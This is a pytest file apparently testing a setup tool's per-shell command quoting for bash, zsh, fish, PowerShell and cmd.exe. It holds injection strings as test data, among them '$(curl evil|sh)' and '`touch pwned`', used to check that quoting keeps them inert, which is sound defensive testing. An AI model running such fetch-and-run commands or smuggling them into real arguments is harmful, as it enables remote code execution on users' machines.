"""The shell layer: every shell's rendering of the same commands, checked against that shell's rules.

bash (and zsh/fish/pwsh where installed) really parse and run the lines: the arguments a program
receives must be exactly the argv that was rendered, and nothing inside an argument may run.
"""

from __future__ import annotations

import shutil
import subprocess

import pytest

from dlsetup.platform import for_os
from dlsetup.platform.shell import (
    SHELLS,
    Cmd,
    detect_shell,
    join_and,
    persist_env,
    prepend_path,
    quote,
    rehash,
    render,
    render_lines,
    set_env,
    unset_env,
    which,
)

EVIL = "$(curl evil|sh)/usr/bin/python3"
# Arguments that each shell would mangle if they were not quoted: the issue's own examples and
# snapshot strings an attacker controls (issue 10's terminal-injection point).
HOSTILE = [
    EVIL,
    "`touch pwned`",
    "a;touch pwned",
    "a & whoami",
    "x|y",
    "pytorch=2.13.0=cuda*",
    "cudnn<9.11",
    "onnxruntime-gpu[cuda,cudnn]==1.26.0",
    r"C:\Users\Zhang San\anaconda3\envs\dl\python.exe",
    "it's",
    "%PATH%",
    "${HOME}",
    "=python",
    "~root",
    "-m",
    "--index-url",
    "1e5",
    "a,b",
    "@(1)",
    "‘curly’",
    "张三",
]


def _bash_argv(line: str, shell: str = "bash") -> list[str]:
    """What a program receives when ``line`` is run by ``shell`` with the program replaced by printf."""
    out = subprocess.run([shell, "-c", f"printargs() {{ printf '%s\\0' \"$@\"; }}; {line}"],
                         capture_output=True, timeout=10, check=True)
    return out.stdout.decode().split("\0")[:-1]


@pytest.mark.parametrize("arg", HOSTILE)
def test_bash_passes_every_argument_verbatim(arg, tmp_path):
    line = render(Cmd(["printargs", arg, "next"]), "bash")
    subprocess.run(["bash", "-n", "-c", line], check=True, timeout=10)
    assert _bash_argv(f"cd {quote(str(tmp_path), 'bash')} && {line}") == [arg, "next"]
    assert not (tmp_path / "pwned").exists()


@pytest.mark.parametrize("shell", ["zsh", "fish", "pwsh", "dash"])
def test_other_installed_shells_pass_arguments_verbatim(shell, tmp_path):
    exe = shutil.which(shell)
    if exe is None:
        pytest.skip(f"{shell} is not installed here")
    kind = {"pwsh": "powershell", "dash": "bash"}.get(shell, shell)
    for arg in HOSTILE:
        if kind == "bash" and shell == "dash" and arg.startswith("~"):
            continue
        line = render(Cmd(["printf", "%s\\n", arg]), kind)
        if kind == "powershell":
            line = line.replace("printf", "/usr/bin/printf", 1)
            argv = [exe, "-NoProfile", "-Command", line]
        else:
            argv = [exe, "-c", line]
        out = subprocess.run(argv, capture_output=True, timeout=30, cwd=tmp_path)
        assert out.stdout.decode().rstrip("\n") == arg, (shell, arg, line)
        assert not (tmp_path / "pwned").exists()


def test_issue_examples_render_per_shell():
    conda = Cmd(["conda", "install", "-c", "conda-forge", "pytorch=2.13.0=cuda*", "cudnn<9.11"])
    assert render(conda, "bash") == "conda install -c conda-forge 'pytorch=2.13.0=cuda*' 'cudnn<9.11'"
    # cmd.exe: single quotes are not quoting characters and < is a redirection: double quotes.
    assert render(conda, "cmd") == 'conda install -c conda-forge "pytorch=2.13.0=cuda*" "cudnn<9.11"'
    assert render(conda, "powershell") == "conda install -c conda-forge 'pytorch=2.13.0=cuda*' 'cudnn<9.11'"
    two = [Cmd(["python", "-m", "pip", "install", "torch==2.14.1"]), Cmd(["python", "-m", "pip", "install", "x"])]
    # Windows PowerShell 5.1 rejects && (a pipeline chain operator only since PowerShell 7).
    ps = join_and(two, "powershell")
    assert "&&" not in ps and ps == "python -m pip install torch==2.14.1; if ($?) { python -m pip install x }"
    assert join_and(two, "cmd") == "python -m pip install torch==2.14.1 && python -m pip install x"
    assert join_and(two, "fish") == join_and(two, "bash")


def test_quoted_program_uses_call_operator_in_powershell():
    exe = r"C:\Program Files\Python312\python.exe"
    line = render(Cmd([exe, "-m", "pip", "list"]), "powershell")
    assert line == r"& 'C:\Program Files\Python312\python.exe' -m pip list"
    assert render(Cmd([exe, "-m", "pip"]), "cmd") == r'"C:\Program Files\Python312\python.exe" -m pip'


def test_powershell_quoting_rules():
    assert quote("it's", "powershell") == "'it''s'"
    assert quote("‘x’", "powershell") == "'‘‘x’’'"  # typographic quotes are quotes to PowerShell
    assert quote("$(evil)", "powershell") == "'$(evil)'"
    assert quote("a,b", "powershell") == "'a,b'"  # a bare comma makes an array
    assert quote("1e5", "powershell") == "'1e5'"  # a bare number would be parsed as 100000
    assert quote("--%", "powershell") == "'--%'"  # the stop-parsing token
    assert quote("--index-url", "powershell") == "--index-url"


def test_cmd_percent_and_quote_are_inert():
    # %NAME% expands inside double quotes in cmd.exe; ^% outside quotes breaks the variable name.
    assert quote("%PATH%", "cmd") == '^%"PATH"^%'
    assert quote("100%", "cmd") == '"100"^%'
    assert '"' not in quote('a"b', "cmd").strip('"').replace('"^%"', "")
    assert quote(EVIL, "cmd") == '"$(curl evil|sh)/usr/bin/python3"'


def test_fish_quoting_rules():
    assert quote("it's", "fish") == r"'it\'s'"
    assert quote("a\\b c", "fish") == r"'a\\b c'"


def test_environment_steps_per_shell():
    forms = {sh: render(set_env("HF_ENDPOINT", "https://hf-mirror.com"), sh) for sh in SHELLS}
    assert forms == {
        "bash": "export HF_ENDPOINT=https://hf-mirror.com",
        "zsh": "export HF_ENDPOINT=https://hf-mirror.com",
        "fish": "set -gx HF_ENDPOINT https://hf-mirror.com",
        "powershell": "$env:HF_ENDPOINT = 'https://hf-mirror.com'",
        "cmd": "set HF_ENDPOINT=https://hf-mirror.com",
    }
    assert render(set_env("X", "a & b"), "cmd") == 'set "X=a & b"'
    assert render(unset_env("CUDA_VISIBLE_DEVICES"), "powershell").startswith("Remove-Item Env:CUDA_VISIBLE_DEVICES")
    assert render(unset_env("CUDA_VISIBLE_DEVICES"), "cmd") == "set CUDA_VISIBLE_DEVICES="
    assert render_lines(persist_env("HF_ENDPOINT", "https://hf-mirror.com"), "powershell")[0] == \
        "setx HF_ENDPOINT https://hf-mirror.com"
    assert render(which("pip"), "powershell") == "where.exe pip"  # `where` is Where-Object there
    assert render(which("pip"), "cmd") == "where pip"
    assert render(which("pip"), "bash") == "which -a pip"
    assert render_lines(rehash(), "powershell") == [] and render_lines(rehash(), "bash") == ["hash -r"]
    with pytest.raises(ValueError):
        render(set_env("A B", "x"), "bash")


def test_env_prefixed_command():
    cmd = Cmd(["python", "train.py"], env={"CUDA_VISIBLE_DEVICES": "0"})
    assert render(cmd, "bash") == "CUDA_VISIBLE_DEVICES=0 python train.py"
    assert render_lines(cmd, "powershell") == ["$env:CUDA_VISIBLE_DEVICES = '0'", "python train.py"]
    assert render(cmd, "fish") == "env CUDA_VISIBLE_DEVICES=0 python train.py"


def test_bash_lines_parse_with_bash_n(tmp_path):
    steps = [set_env("HF_ENDPOINT", "https://hf-mirror.com"), unset_env("X"), which("pip"), rehash(),
             prepend_path("/opt/x y/bin", EVIL),
             persist_env("HF_ENDPOINT", "https://hf-mirror.com"), Cmd([EVIL, "-c", "print(1)"], env={"A": EVIL})]
    script = "\n".join(render(s, "bash") for s in steps)
    subprocess.run(["bash", "-n", "-c", script], check=True, timeout=10)
    # prepend_path really puts the folders in front
    out = subprocess.run(["bash", "-c", render(prepend_path("/opt/x y/bin"), "bash") + '; printf %s "$PATH"'],
                         capture_output=True, text=True, check=True, timeout=10)
    assert out.stdout.startswith("/opt/x y/bin:")


def test_detect_shell_from_parent_process_and_environment():
    win = for_os("windows", {"PSModulePath": r"C:\Users\u\Documents\WindowsPowerShell\Modules;"
                                             r"C:\Program Files\WindowsPowerShell\Modules"})
    assert detect_shell(win, parent_names=[]) == "powershell"
    # cmd.exe inherits only the machine-wide PSModulePath and sets PROMPT
    cmd_env = for_os("windows", {"PSModulePath": r"C:\Program Files\WindowsPowerShell\Modules;"
                                                 r"C:\WINDOWS\system32\WindowsPowerShell\v1.0\Modules",
                                 "PROMPT": "$P$G", "ComSpec": r"C:\WINDOWS\system32\cmd.exe"})
    assert detect_shell(cmd_env, parent_names=[]) == "cmd"
    assert detect_shell(cmd_env, parent_names=["python.exe", "pwsh.exe"]) == "powershell"
    assert detect_shell(for_os("windows", {}), parent_names=[]) == "powershell"  # a snapshot / --os windows
    assert detect_shell(for_os("linux", {"SHELL": "/usr/bin/fish"}), parent_names=[]) == "fish"
    assert detect_shell(for_os("linux", {"SHELL": "/bin/zsh"}), parent_names=["-zsh"]) == "zsh"
    assert detect_shell(for_os("linux", {}), parent_names=["python3", "bash"]) == "bash"


def test_dlsetup_shell_overrides_detection():
    assert detect_shell(for_os("windows", {"DLSETUP_SHELL": "bash", "PROMPT": "$P$G"}), parent_names=["cmd.exe"]) == \
        "bash"
    assert detect_shell(for_os("linux", {"DLSETUP_SHELL": "nonsense"}), parent_names=["zsh"]) == "zsh"
